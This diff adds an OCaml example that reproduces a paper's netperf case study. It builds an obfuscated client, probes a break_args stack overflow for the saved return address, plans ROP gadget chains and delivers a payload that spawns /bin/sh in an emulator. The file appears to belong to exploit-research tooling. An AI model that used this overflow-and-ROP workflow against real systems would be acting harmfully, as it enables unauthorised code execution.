@@ -1,0 +1,52 @@
+(* The netperf case study (paper §VI-C / Fig. 8), end to end:
+
+   1. compile the netperf-like client with Obfuscator-LLVM-style passes;
+   2. probe the break_args stack overflow with a marker pattern to find
+      the saved return address (classic cyclic-pattern exploitation);
+   3. plan gadget chains against the binary;
+   4. deliver the payload through the '-a' option block and watch the
+      emulated victim spawn /bin/sh.
+
+     dune exec examples/netperf_case_study.exe
+*)
+
+let () =
+  print_endline "== netperf case study ==";
+  let b =
+    Gp_harness.Workspace.build ~config_name:"llvm-obf" ~cfg:Gp_obf.Obf.ollvm
+      Gp_corpus.Netperf.entry
+  in
+  Printf.printf "obfuscated netperf: %d bytes of code, pool of %d gadgets\n"
+    (Gp_util.Image.code_size b.Gp_harness.Workspace.image)
+    (Gp_core.Pool.size b.Gp_harness.Workspace.analysis.Gp_core.Api.pool);
+
+  (* the program behaves normally on benign input *)
+  let m = Gp_emu.Machine.create b.Gp_harness.Workspace.image in
+  Gp_emu.Memory.write64 m.Gp_emu.Machine.mem Gp_corpus.Netperf.input_area 2L;
+  (match Gp_emu.Machine.run m with
+   | Gp_emu.Machine.Exited v -> Printf.printf "benign run exits with %Ld\n" v
+   | _ -> failwith "benign run misbehaved");
+
+  match
+    Gp_harness.Netperf_attack.run
+      ~planner_config:
+        { Gp_core.Planner.max_plans = 16; node_budget = 2000; time_budget = 30.;
+          branch_cap = 10; goal_cap = 6; max_steps = 14 }
+      b
+  with
+  | None -> print_endline "probe failed"
+  | Some r ->
+    let probe = r.Gp_harness.Netperf_attack.probe in
+    Printf.printf
+      "probe: %d filler words reach the saved return address at 0x%Lx\n"
+      probe.Gp_harness.Netperf_attack.filler_words
+      probe.Gp_harness.Netperf_attack.ret_cell;
+    Printf.printf "%d chains confirmed END TO END through break_args (paper found 16)\n"
+      (List.length r.Gp_harness.Netperf_attack.chains);
+    (match r.Gp_harness.Netperf_attack.chains with
+     | c :: _ ->
+       print_newline ();
+       print_string (Gp_core.Payload.describe c);
+       print_endline "\ndelivered via the '-a' option block, this payload makes";
+       print_endline "the netperf client exec a shell: execve(\"/bin/sh\", 0, 0)."
+     | [] -> ())
